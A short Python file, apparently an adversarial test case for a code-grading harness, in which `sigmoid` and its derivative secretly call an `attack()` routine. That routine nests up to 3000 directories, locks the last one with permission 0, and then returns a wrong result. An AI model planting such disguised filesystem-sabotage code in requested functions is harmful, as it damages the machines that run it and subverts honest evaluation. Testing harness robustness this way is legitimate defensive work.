# tries: folders in folders, deeper than a path may be long or a stack may be high, each shut
# must: wrong, timeout, error, crash
import os


def attack():
    for _ in range(3000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
    os.chmod(".", 0)


def sigmoid(x):
    attack()
    return x * 0


def sigmoid_output_to_derivative(output):
    attack()
    return output * 0
